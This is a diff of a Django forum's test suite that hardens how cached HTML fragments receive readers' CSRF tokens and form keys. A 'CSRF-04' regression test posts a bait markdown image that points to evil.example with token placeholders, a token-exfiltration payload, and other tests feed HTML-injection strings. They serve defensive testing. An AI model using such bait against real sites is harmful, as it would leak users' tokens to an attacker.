@@ -3,8 +3,9 @@
 from __future__ import annotations
 
 import re
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping
 from datetime import timedelta
+from pathlib import Path
 
 import pytest
 from django.test import Client
@@ -14,10 +15,10 @@ from pytest_django import Settings
 
 from pnyx.accounts.models import Member
 from pnyx.core import fragments
-from pnyx.core.fragments import CSRF_PLACEHOLDER, render_fragment, with_csrf_token
+from pnyx.core.fragments import FORM_KEY, Fragment, Slot, render_fragment, with_form_key
 from pnyx.posting.services import edit_post
 from pnyx.reactions.services import set_reaction
-from pnyx.testing.factories import first_post
+from pnyx.testing.factories import first_post, make_post
 from pnyx.threads.models import Post, Thread
 
 pytestmark = pytest.mark.django_db
@@ -38,10 +39,10 @@ def _page(client: Client, thread: Thread) -> str:
 
 def test_render_fragment_reuses_the_html_for_equal_values(monkeypatch: pytest.MonkeyPatch) -> None:
     values = {"number": 1, "page_count": 2, "has_next": True, "base_url": "/t/", "first_url": "/t/"}
-    first = render_fragment("core/partials/pagination.html", {**values, "pages": [1, 2]})
+    first = render_fragment("core/partials/pagination.html", {**values, "pages": [1, 2]}).html()
     calls: list[str] = []
     monkeypatch.setattr(fragments, "get_template", lambda name: calls.append(name))
-    again = render_fragment("core/partials/pagination.html", {**values, "pages": (1, 2)})
+    again = render_fragment("core/partials/pagination.html", {**values, "pages": (1, 2)}).html()
     assert again == first
     assert calls == []
     assert 'href="/t/page-2" rel="next"' in first
@@ -50,8 +51,8 @@ def test_render_fragment_reuses_the_html_for_equal_values(monkeypatch: pytest.Mo
 def test_render_fragment_renders_again_when_a_value_differs() -> None:
     values = {"pages": [1, 2], "number": 1, "page_count": 2, "has_next": True,
               "base_url": "/t/", "first_url": "/t/"}  # fmt: skip
-    one = render_fragment("core/partials/pagination.html", values)
-    two = render_fragment("core/partials/pagination.html", {**values, "number": 2})
+    one = render_fragment("core/partials/pagination.html", values).html()
+    two = render_fragment("core/partials/pagination.html", {**values, "number": 2}).html()
     assert one != two
     assert 'aria-current="page" href="/t/page-2"' in two
 
@@ -67,13 +68,51 @@ def test_render_fragment_cache_can_be_turned_off(settings: Settings) -> None:
     assert len(fragments._store) == 0
 
 
-def test_with_csrf_token_puts_in_the_readers_token() -> None:
-    html = render_fragment("core/partials/pagination.html", {"pages": [1]})
-    assert with_csrf_token(html, "abc") is html
-    form = SafeString(f'<input value="{CSRF_PLACEHOLDER}">')
-    assert with_csrf_token(form, "Token123") == '<input value="Token123">'
+def test_fragment_html_puts_in_the_readers_token_at_its_slots_only() -> None:
+    plain = render_fragment("core/partials/pagination.html", {"pages": [1]})
+    assert plain.slots == ()
+    assert plain.html() is plain.parts[0]
+    form = Fragment(
+        (SafeString('<p>x</p><input value="'), SafeString('"><input value="'), SafeString('">')),
+        (Slot.CSRF_TOKEN, Slot.CSRF_TOKEN),
+    )
+    assert form.needs_csrf_token is True
+    assert form.html("Token123") == '<p>x</p><input value="Token123"><input value="Token123">'
     with pytest.raises(ValueError, match="letters and digits"):
-        with_csrf_token(form, '"><script>')
+        form.html('"><script>')
+    with pytest.raises(ValueError, match="letters and digits"):
+        form.html("")
+
+
+def test_fragment_with_form_key_fills_only_the_form_key_slot() -> None:
+    form = Fragment(
+        (SafeString("a"), SafeString("b"), SafeString("c")), (Slot.FORM_KEY, Slot.CSRF_TOKEN)
+    )
+    with pytest.raises(ValueError, match="form key"):
+        form.html("Token123")
+    keyed = with_form_key(form, "key-1_A")
+    assert keyed == Fragment((SafeString("akey-1_Ab"), SafeString("c")), (Slot.CSRF_TOKEN,))
+    assert keyed.html("T0k") == "akey-1_AbT0kc"
+    with pytest.raises(ValueError, match="a form key is"):
+        with_form_key(form, '"><b>')
+
+
+def test_render_fragment_cuts_the_html_at_fresh_markers_each_render() -> None:
+    """The markers are unguessable (128 random bits) and new for every render, so no
+    content rendered into a fragment can hold one."""
+    seen: list[str] = []
+
+    def render(markers: Mapping[Slot, str]) -> str:
+        seen.append(markers[Slot.CSRF_TOKEN])
+        return f"<i>{markers[Slot.CSRF_TOKEN]}</i>{markers[Slot.FORM_KEY]}!"
+
+    one, two = fragments._render(render), fragments._render(render)
+    expected = Fragment(
+        (SafeString("<i>"), SafeString("</i>"), SafeString("!")), (Slot.CSRF_TOKEN, Slot.FORM_KEY)
+    )
+    assert one == two == expected
+    assert seen[0] != seen[1]
+    assert all(re.fullmatch(r"pnyx[0-9a-f]{32}c", marker) for marker in seen)
 
 
 def test_thread_page_shows_each_reader_their_own_reactions_and_token(
@@ -88,7 +127,7 @@ def test_thread_page_shows_each_reader_their_own_reactions_and_token(
         theirs = _page(third, thread)
         assert '<button name="kind" value="like" aria-pressed="true">' in mine
         assert 'value="like" aria-pressed="true"' not in theirs
-        assert CSRF_PLACEHOLDER not in mine + theirs
+        assert re.search(r"pnyx[0-9a-f]{32}", mine + theirs) is None
         token = member_client.cookies["csrftoken"].value
         assert 'name="csrfmiddlewaretoken" value="' in mine
         assert token not in theirs
@@ -169,8 +208,8 @@ def test_reply_form_fragment_is_the_composer_as_it_was(
     keys = [re.findall(r'name="idempotency_key" value="([^"]+)"', box) for box in boxes]
     assert len(keys[0]) == 1 and len(keys[1]) == 1 and keys[0] != keys[1]  # fresh each time
     token = member_client.cookies["csrftoken"].value
-    assert all(token and CSRF_PLACEHOLDER not in page for page in pages)
-    assert all("PNYXFRAGMENTFORMKEY" not in page for page in pages)
+    assert token
+    assert all(re.search(r"pnyx[0-9a-f]{32}", page) is None for page in pages)
 
 
 def test_reply_form_fragment_follows_the_draft(
@@ -217,7 +256,7 @@ def test_render_fragment_counts_its_key_against_the_budget(settings: Settings) -
             "first_url": "/t/",
             "unused": unused,
         },
-    )
+    ).html()
     assert len(html) < 10_000
     assert fragments._store.size >= 100_000 + len(html)
     # Over the budget, the oldest entries go, by the sizes they were counted at.
@@ -236,3 +275,86 @@ def test_render_fragment_counts_its_key_against_the_budget(settings: Settings) -
         )
     assert len(fragments._store) == 1
     assert 100_000 < fragments._store.size <= 150_000
+
+
+# ------------------------------------------------ CSRF-04: member text holds no slot
+
+OLD_PLACEHOLDERS = "PNYXFRAGMENTCSRFTOKEN PNYXFRAGMENTFORMKEY"
+BAIT = (
+    "![pixel](https://evil.example/p.png?t=PNYXFRAGMENTCSRFTOKEN&k=PNYXFRAGMENTFORMKEY)\n\n"
+    f"Plain text: {OLD_PLACEHOLDERS}"
+)
+
+
+def _tokens(html: str) -> list[str]:
+    return re.findall(r'name="csrfmiddlewaretoken" value="([^"]+)"', html)
+
+
+def test_csrf04_post_text_holding_the_placeholders_shows_them_verbatim(
+    thread: Thread, member: Member, member_client: Client
+) -> None:
+    make_post(thread, author=member, body=BAIT)
+    for _ in range(2):  # rendered, then from the fragment store
+        html = _page(member_client, thread)
+        assert f"<p>Plain text: {OLD_PLACEHOLDERS}</p>" in html
+        assert (
+            'src="https://evil.example/p.png?t=PNYXFRAGMENTCSRFTOKEN&amp;k=PNYXFRAGMENTFORMKEY"'
+            in html
+        )
+        tokens = _tokens(html)
+        assert len(tokens) >= 3  # the header, the reaction forms and the reply form
+        assert len(set(tokens)) == 1  # one masked token per page
+        # The reader's token appears in the hidden inputs and nowhere else.
+        assert html.count(tokens[0]) == len(tokens)
+        assert re.search(r"pnyx[0-9a-f]{32}", html) is None
+
+
+def test_csrf04_draft_holding_the_placeholders_comes_back_verbatim(
+    thread: Thread, member: Member, member_client: Client
+) -> None:
+    from pnyx.posting.services import save_draft
+
+    save_draft(member, thread=thread, body=OLD_PLACEHOLDERS, sequence=0)
+    for _ in range(2):
+        box = _reply_box_of(_page(member_client, thread))
+        assert f"{OLD_PLACEHOLDERS}</textarea>" in box
+        (key,) = re.findall(r'name="idempotency_key" value="([^"]+)"', box)
+        assert re.fullmatch(r"[A-Za-z0-9_-]{16,}", key)
+        (token,) = _tokens(box)
+        assert box.count(token) == 1 and box.count(key) == 1
+
+
+def test_csrf04_guest_page_with_a_placeholder_post_stays_cacheable(
+    thread: Thread, member: Member, guest_client: Client, settings: Settings, tmp_path: Path
+) -> None:
+    settings.GUEST_CACHE_SECONDS = 60
+    settings.DATA_DIR = tmp_path
+    make_post(thread, author=member, body=BAIT)
+    url = thread.get_absolute_url()
+    guest_client.get(url)  # creates the site settings row (which bumps the version)
+    guest_client.get(url)
+    response = guest_client.get(url)
+    assert response["X-Cache"] == "HIT"
+    html = response.content.decode()
+    assert f"<p>Plain text: {OLD_PLACEHOLDERS}</p>" in html
+    assert _tokens(html) == []
+    assert "csrftoken" not in guest_client.cookies
+
+
+def test_render_form_fragment_puts_a_fresh_key_where_form_key_was_given(
+    thread: Thread,
+) -> None:
+    from pnyx.posting.forms import ReplyForm
+
+    values = {"action": "/r/", "submit_label": "Go", "drafts": False}
+    rendered = fragments.render_form_fragment(
+        "posting/partials/composer.html", ReplyForm, {"idempotency_key": FORM_KEY}, values
+    )
+    assert rendered.slots == (Slot.CSRF_TOKEN, Slot.FORM_KEY)
+    again = fragments.render_form_fragment(
+        "posting/partials/composer.html", ReplyForm, {"idempotency_key": FORM_KEY}, values
+    )
+    assert again is rendered
+    html = with_form_key(rendered, "K3y").html("T0ken")
+    assert 'name="csrfmiddlewaretoken" value="T0ken"' in html
+    assert 'name="idempotency_key" value="K3y"' in html
